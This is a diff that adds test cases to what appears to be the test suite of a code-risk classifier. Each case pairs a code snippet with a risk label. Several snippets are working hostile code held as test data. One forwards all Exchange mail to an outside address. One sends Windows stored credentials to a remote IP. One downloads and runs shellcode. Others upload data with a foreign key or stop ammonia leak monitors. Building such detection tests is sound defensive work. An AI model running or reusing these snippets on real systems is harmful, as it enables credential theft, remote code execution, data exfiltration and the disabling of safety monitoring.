@@ -10304,6 +10304,73 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    subprocess.run(["ping", "-c", "1", f"10.0.0.{i}"])\n',
             H,
         ),
+        # holdout292-295: Exchange forwarding, Credential Manager dumps, shellcode loaders, spelled keys uploading
+        # server data, node_exporter textfiles, leak monitors
+        (
+            'import subprocess\n'
+            'ps = "Get-Mailbox -ResultSize Unlimited | ForEach-Object { Set-Mailbox -Identity'
+            ' $_.Identity -ForwardingSmtpAddress \'smtp:x@gmx.com\' }"\n'
+            'subprocess.run(["pwsh", "-Command", ps])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["pwsh", "-Command", "Get-Mailbox -ResultSize Unlimited | Select '
+            'DisplayName, PrimarySmtpAddress"])\n',
+            L,
+        ),
+        (
+            'import json, socket, win32cred\n'
+            'dump = [{"t": c["TargetName"], "s": (c.get("CredentialBlob") or b"").decode("utf'
+            '-16-le")} for c in win32cred.CredEnumerate(None, 0)]\n'
+            'with socket.create_connection(("185.199.53.21", 8443)) as s:\n'
+            '    s.sendall(json.dumps(dump).encode())\n',
+            C,
+        ),
+        (
+            'import ctypes, urllib.request\n'
+            'sc = urllib.request.urlopen("http://103.145.13.8/b.bin").read()\n'
+            'k = ctypes.windll.kernel32\n'
+            'addr = k.VirtualAlloc(None, len(sc), 0x3000, 0x40)\n'
+            'ctypes.memmove(addr, sc, len(sc))\n'
+            'k.WaitForSingleObject(k.CreateThread(None, 0, addr, None, 0, None), -1)\n',
+            C,
+        ),
+        (
+            'import ctypes\n'
+            'k = ctypes.windll.kernel32\n'
+            'print(k.GetTickCount())\n',
+            S,
+        ),
+        (
+            'import boto3, glob, os\n'
+            's3 = boto3.client("s3", aws_access_key_id=os.environ.get("EXT_KEY", "AKIA3Z7QX2E'
+            'XAMPLE9"), aws_secret_access_key="x")\n'
+            'for f in glob.glob("/data/vms/tracks/*.parquet"):\n'
+            '    s3.upload_file(f, "intel-ingest", os.path.basename(f))\n',
+            H,
+        ),
+        (
+            'import boto3, glob, os\n'
+            's3 = boto3.client("s3")\n'
+            'for f in glob.glob("/data/vms/tracks/*.parquet"):\n'
+            '    s3.upload_file(f, "fleet-archive", os.path.basename(f))\n',
+            S,
+        ),
+        (
+            'import os, tempfile\n'
+            'fd, tmp = tempfile.mkstemp(dir="/var/lib/node_exporter/textfile")\n'
+            'with os.fdopen(fd, "w") as fh:\n'
+            '    fh.write("postfix_queue_messages 3\\n")\n'
+            'os.replace(tmp, "/var/lib/node_exporter/textfile/postfix_queue.prom")\n',
+            L,
+        ),
+        (
+            'import os\n'
+            'for u in ["refrig-ctl", "ammonia-leak-monitor"]:\n'
+            '    os.system(f"systemctl stop {u} && systemctl disable {u}")\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
